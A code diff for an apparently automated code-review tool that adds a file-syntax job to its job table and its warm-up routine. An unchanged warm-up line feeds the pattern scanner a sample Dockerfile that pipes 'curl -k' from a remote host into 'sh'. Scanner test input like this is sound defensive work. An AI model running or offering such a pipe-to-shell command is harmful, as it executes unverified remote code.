@@ -24,6 +24,7 @@ from bandit.core.docs_utils import get_url
 from bandit.core.manager import BanditManager
 from pydantic import JsonValue
 
+from agents import file_syntax
 from agents.review.checks import patterns, secrets
 from agents.review.checks.dangers import scanner as dangers
 from agents.syntax import data, errors
@@ -142,6 +143,7 @@ JOBS: Mapping[str, Callable[[Any], JsonValue]] = {
     "junit": testing.read_junit,
     "cobertura": testing.read_cobertura,
     "selection": testing.select_tests,
+    "syntax": file_syntax.is_parsed,
 }
 
 _EXAMPLE = b"""
@@ -174,6 +176,7 @@ def prepare() -> None:
     scan_patterns({"kind": "docker", "head": "FROM a\nRUN curl -k https://x.org | sh\n", "base": None})
     _prepare_parsers()
     testing.prepare()
+    file_syntax.prepare()
     for codec in ("utf-8-sig", "latin-1", "utf-16", "cp1252", "ascii"):  # a source file may declare one of these
         codecs.lookup(codec)
 
